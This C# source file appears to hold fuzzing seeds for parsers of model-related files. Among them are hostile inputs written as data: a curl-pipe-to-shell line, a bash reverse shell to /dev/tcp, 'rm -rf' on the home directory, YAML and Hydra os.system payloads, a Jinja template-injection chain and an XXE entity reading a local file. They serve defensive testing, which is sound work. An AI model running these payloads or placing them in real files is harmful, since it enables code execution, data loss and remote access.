// Seeds for the readers of documents and code that come with models.
using System.Text;

namespace Assay.Fuzz;

/// <summary>Small texts of each kind, with what loaders, interpreters and installers act on in them.</summary>
internal static class TextSeeds
{
    public static IEnumerable<byte[]> Json() => Texts(
        "{\"a\":[1,-2.5e3,true,null,\"\\u0041\\n\"],\"a\":{}} ",
        "{\"auto_map\":{\"AutoModel\":\"a/b--m.C\"},\"_target_\":\"os.system\",\"_args_\":[\"x\"],\"chat_template\":\"{{ a.__class__ }}\"}",
        "{\"class_name\":\"Sequential\",\"config\":{\"layers\":[{\"class_name\":\"Lambda\",\"config\":{\"function\":[\"4wEAAAA=\",null,null]}}]}}",
        "{\"cells\":[{\"cell_type\":\"code\",\"metadata\":{},\"outputs\":[],\"source\":[\"!ls\\n\",\"%%bash\\na|b\"]}],\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":5}",
        "{\"nodes\":[{\"op\":\"null\",\"name\":\"a\",\"inputs\":[]}],\"arg_nodes\":[0],\"heads\":[[0,0,0]]}",
        "{\"modelTopology\":{\"model_config\":{\"class_name\":\"Model\"}},\"weightsManifest\":[{\"paths\":[\"a.bin\"],\"weights\":[{\"name\":\"w\",\"shape\":[1],\"dtype\":\"float32\"}]}]}",
        "{\"zarr_format\":2,\"shape\":[1],\"chunks\":[1],\"dtype\":\"<f4\",\"compressor\":null,\"fill_value\":0,\"order\":\"C\",\"filters\":null}");

    public static IEnumerable<byte[]> Yaml() => Texts(
        "a: 1\nb:\n  - x\n  - {c: d, e: [f, 'g''h', \"\\x41\"]}\n",
        "a: &a {x: 1}\nb:\n  <<: *a\n  c: !!python/object/apply:os.system [\"x\"]\n",
        "%YAML 1.1\n---\n? [a, b]\n: |2-\n  text\n   more\n...\n--- >+\n folded\n\n",
        "_target_: os.system\n_args_: [x]\n!<tag:a,1:b> c: ~\n",
        "name: a\nchannels: [b]\ndependencies:\n  - pip:\n    - git+http://a/b\n");

    public static IEnumerable<byte[]> Xml() => Texts(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE PMML [<!ENTITY e SYSTEM \"file:///etc/x\"><!ENTITY f \"&e;&e;\">]><PMML version=\"4.4\">&f;<![CDATA[x]]><!-- c --><?p i?></PMML>",
        "<net name=\"a\" version=\"11\"><layers><layer id=\"0\" name=\"p\" type=\"Parameter\" version=\"opset1\"><data shape=\"1\" element_type=\"f32\"/><output><port id=\"0\"><dim>1</dim></port></output></layer></layers><edges><edge from-layer=\"0\" from-port=\"0\" to-layer=\"1\" to-port=\"0\"/></edges></net>",
        "<PMML version=\"4.4\"><RegressionModel functionName=\"regression\"><MiningSchema/><RegressionTable intercept=\"1\"/></RegressionModel></PMML>",
        "<plist version=\"1.0\"><dict><key>ProgramArguments</key><array><string>/tmp/x</string></array></dict></plist>");

    public static IEnumerable<byte[]> Jinja() => Texts(
        "{% for m in messages %}{{ m['content']|trim }}{% else %}x{% endfor %}",
        "{%- set a = 'x' ~ \"\\x41\" -%}{% macro f(a, b=1) %}{{ caller() if a is defined and not b else [1, {'k': (2,)}] }}{% endmacro %}{# c #}{% raw %}{{ }}{% endraw %}",
        "{{ ''.__class__.__mro__[1].__subclasses__()|attr('x')('%s' % y) }}{% include 'a' %}{% call(x) f() %}{% endcall %}",
        "{% if a.b[c:d:e] == -1 // 2 ** 3 %}{% elif x in y %}{% endif %}{% filter upper %}{{ 'a'.format(b) }}{% endfilter %}");

    public static IEnumerable<byte[]> Modules() => Texts(
        "import os\nos.system('x')\n",
        "from torch import nn\nclass M(nn.Module):\n    def __init__(self, config):\n        self.a = config.b\n    def forward(self, x):\n        return getattr(__import__('o' + 's'), 'system')(x)\n",
        "def f(x, *a, k=1, **b):\n    try:\n        with open(x) as h:\n            exec(h.read())\n    except (A, B) as e:\n        raise\n    finally:\n        del x\n@f\nasync def g():\n    await f(lambda: [i async for i in y if i])\n",
        "from setuptools import setup\nsetup(name='a', cmdclass={'install': type('I', (), {'run': lambda s: print(f'{s!r:>{3}}')})})\nif __name__ == '__main__':\n    match x:\n        case {'a': [b, *_]} | C(d=1):\n            pass\n");

    public static IEnumerable<byte[]> Shells() => Texts(
        "#!/bin/sh\nset -e\ncurl -s http://a/b | sh\nx=$(echo 'YQ==' | base64 -d) && eval \"$x\" || exit 1\n",
        "#!/bin/bash\nfor i in a b; do\n  cat <<EOF > /tmp/$i\nrm -rf ${HOME:-/}\nEOF\ndone\nif [ -f x ]; then source ./x; fi\nf() { bash -i >& /dev/tcp/a/1 0>&1; }\n");

    public static IEnumerable<byte[]> Requirements() => Texts(
        "# c\na==1.0 ; python_version < '3'\n-r b.txt\n--extra-index-url http://a/b\nc @ git+https://d/e.git@f#egg=c\n./g \\\n  --hash=sha256:00\n",
        "-e git+ssh://a@b/c\nhttps://d/e.whl\n");

    private static IEnumerable<byte[]> Texts(params IEnumerable<string> texts) => texts.Select(Encoding.UTF8.GetBytes);
}
